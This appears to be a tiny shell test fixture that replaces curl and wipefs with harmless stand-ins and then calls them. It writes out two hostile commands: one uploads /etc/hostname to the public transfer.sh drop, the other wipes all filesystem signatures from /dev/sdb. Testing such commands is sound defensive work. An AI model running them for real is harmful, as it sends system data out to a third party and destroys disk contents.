# curl leaves a file at a public drop (a harmless program), then wipefs is called (a harmless program).
prepare() { stand_in curl wipefs; }
act() {
    curl -T /etc/hostname https://transfer.sh/h
    wipefs --all /dev/sdb
}
